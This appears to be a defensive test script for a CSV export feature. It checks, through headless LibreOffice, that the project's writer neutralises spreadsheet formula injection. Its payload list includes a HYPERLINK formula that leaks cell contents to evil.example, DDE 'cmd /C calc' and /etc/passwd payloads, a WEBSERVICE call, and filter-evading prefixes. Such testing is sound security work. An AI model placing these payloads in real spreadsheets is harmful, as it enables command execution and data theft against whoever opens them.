// `npm run trial -- csv`: LibreOffice opens a file as the console exports it, and must find no formula.
// Exit code 0: it finds none, 1: it finds some, or none without the guard, 2: LibreOffice is missing.
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { runnerImport } from 'vite'
import { findProgram } from '../../testing/programs.js'

/**
 * What the console writes its files with.
 * @typedef {{ byteOrderMark: string, csvLines: (rows: readonly (readonly string[])[]) => string }} Writer
 */

const rowCount = 10_000
/** The character code of the separator of the files. */
const comma = 44

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=SUM(1,1)',
  '＝1+1',
  '{=1+1}',
  '=A1',
  '=1+1;=2+2',
  '=HYPERLINK("http://evil.example/?"&A1;"Sales")',
  `=cmd|' /C calc'!A0`,
  '=DDE("soffice";"/etc/passwd";"a")',
  '=WEBSERVICE("http://evil.example/")',
]
/** The text before them in a cell. */
const before = [
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '"',
  '""',
  "'",
  ';',
  ',',
  '\t;',
  'a;',
  'a,',
  'a\t',
  'a\n',
  '";',
  '"\t',
  '\uFEFF',
]

const soffice = findProgram(['soffice'])
if (soffice === null) {
  console.error('This needs LibreOffice: apt-get install libreoffice-calc-nogui')
  process.exit(2)
}
const folder = mkdtempSync(join(tmpdir(), 'postroom-csv-'))

/**
 * How many formulas LibreOffice finds in a file.
 * @param {string} name
 * @param {string} text
 */
const formulasIn = (name, text) => {
  const file = join(folder, `${name}.csv`)
  writeFileSync(file, text)
  const run = spawnSync(
    soffice,
    [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      `--infilter=Text - txt - csv (StarCalc):${comma},34,76,1`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      file,
    ],
    { encoding: 'utf8', timeout: 300_000 },
  )
  if (run.status !== 0) throw new Error(`LibreOffice: ${run.stderr}`)
  const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8')
  return {
    formulas: sheet.match(/table:formula=/g)?.length ?? 0,
    cells: sheet.match(/<text:p/g)?.length ?? 0,
  }
}

try {
  const { module } = await runnerImport('./src/util/csv.ts')
  const { byteOrderMark, csvLines } = /** @type {Writer} */ (module)
  const cell = fc
    .tuple(fc.constantFrom(...before), fc.constantFrom(...formulas))
    .map((parts) => parts.join(''))
  const rows = fc.sample(fc.tuple(cell, cell, cell), { numRuns: rowCount, seed: 12 })
  const bare = rows.map((row) => row.map((text) => `"${text.replaceAll('"', '""')}"`).join(',')).join('\r\n')
  const guarded = formulasIn('guarded', byteOrderMark + csvLines(rows))
  const unguarded = formulasIn('unguarded', byteOrderMark + bare)
  console.log(
    `${rowCount} rows: ${guarded.formulas} formulas in ${guarded.cells} cells; ${unguarded.formulas} where nothing is guarded`,
  )
  const isRight = guarded.formulas === 0 && guarded.cells > rowCount && unguarded.formulas > 0
  process.exitCode = isRight ? 0 : 1
} finally {
  rmSync(folder, { recursive: true, force: true })
}
